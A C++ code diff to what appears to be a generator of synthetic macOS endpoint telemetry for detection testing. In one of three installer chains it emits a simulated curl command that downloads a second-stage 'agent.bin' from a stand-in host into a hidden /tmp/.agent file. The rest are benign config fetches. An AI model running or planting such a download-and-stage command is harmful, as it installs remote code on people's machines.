@@ -224,12 +224,20 @@ public:
             "com.apple.PackageKit.package_script_service", false};
         Process svc = spawn(host, service);
         Process shell = spawn(host, Binaries[1]);
-        shell.commandLine = "/bin/bash /tmp/PKInstallSandbox." + base64ish(m_rng, 6) + "/Scripts/com.vendor.pkg."
+        // Two of three chains are the managed-device agent fetching its configuration (the false
+        // positives an engineer excludes), one in three a package fetching a second stage. The
+        // choice uses a counter, not the random stream, so every other byte stays as it was.
+        const bool benign = m_chains++ % 3 != 0;
+        const char* const pkg = benign ? "com.corp.config.pkg." : "com.flash.update.pkg.";
+        shell.commandLine = "/bin/bash /tmp/PKInstallSandbox." + base64ish(m_rng, 6) + "/Scripts/" + pkg
             + base64ish(m_rng, 4) + "/postinstall /Users/Shared/Installer.pkg / / /";
         Process curl = spawn(host, Binaries[6]);
+        curl.commandLine = benign ? "/usr/bin/curl -fsS --retry 3 https://jamf.corp.example/config/CorpConfig.plist"
+                                  : "/usr/bin/curl -fsSL https://dl.example-update.net/agent.bin -o /tmp/.agent";
         processEvent(host, ms, "exec", "start", shell, svc, true);
         processEvent(host, ms + 150, "exec", "start", curl, shell, true);
-        networkEvent(host, ms + 180 + static_cast<std::int64_t>(m_rng.below(40000)), curl, shell, true, true);
+        networkEvent(host, ms + 180 + static_cast<std::int64_t>(m_rng.below(40000)), curl, shell, true, true,
+            benign ? "jamf.corp.example" : "dl.example-update.net", benign ? "10.20.0.15" : "203.0.113.10");
     }
 
     void common(std::string& out, Host& host, std::int64_t ms, const char* dataset) {
@@ -322,19 +330,24 @@ public:
         emit(out);
     }
 
-    void networkEvent(Host& host, std::int64_t ms, const Process& p, const Process& parent, bool root, bool start) {
+    // `domain` and `ip`, when given, replace the random destination (the random draws still happen,
+    // so the rest of the capture stays the same bytes).
+    void networkEvent(Host& host, std::int64_t ms, const Process& p, const Process& parent, bool root, bool start,
+        const char* domain = nullptr, const char* ip = nullptr) {
         std::string out;
         out.reserve(1536);
         common(out, host, ms, "endpoint.events.network");
         eventBlock(out, host, start ? "connection_attempted" : "disconnect_received", "network",
             start ? "start" : "end", "endpoint.events.network");
         hostAndUser(out, host, root);
-        const std::string dst = std::to_string(17 + m_rng.below(180)) + "." + std::to_string(m_rng.below(256)) + "."
+        std::string dst = std::to_string(17 + m_rng.below(180)) + "." + std::to_string(m_rng.below(256)) + "."
             + std::to_string(m_rng.below(256)) + "." + std::to_string(1 + m_rng.below(254));
+        if (ip) dst = ip;
         static const char* const domains[]
             = {"api.github.com", "dl.example.net", "update.vendor.com", "cdn.jsdelivr.net", "slack.com"};
         out += "\"destination\":{\"address\":\"" + dst + "\",\"ip\":\"" + dst
-            + "\",\"port\":" + std::to_string(m_rng.chance(0.8) ? 443 : 80) + ",\"domain\":\"" + domains[m_rng.below(5)]
+            + "\",\"port\":" + std::to_string(m_rng.chance(0.8) ? 443 : 80) + ",\"domain\":\""
+            + (domain ? (m_rng.below(5), domain) : domains[m_rng.below(5)])
             + "\",\"bytes\":" + std::to_string(m_rng.below(100000)) + "},\"source\":{\"address\":\"" + host.ip
             + "\",\"ip\":\"" + host.ip + "\",\"port\":" + std::to_string(49152 + m_rng.below(16000))
             + ",\"bytes\":" + std::to_string(m_rng.below(10000))
@@ -365,6 +378,7 @@ public:
     std::vector<std::array<std::string, 3>> m_hashes;
     std::string m_created;
     std::uint64_t m_written = 0;
+    std::uint64_t m_chains = 0; // installer chains so far
 };
 } // namespace
 
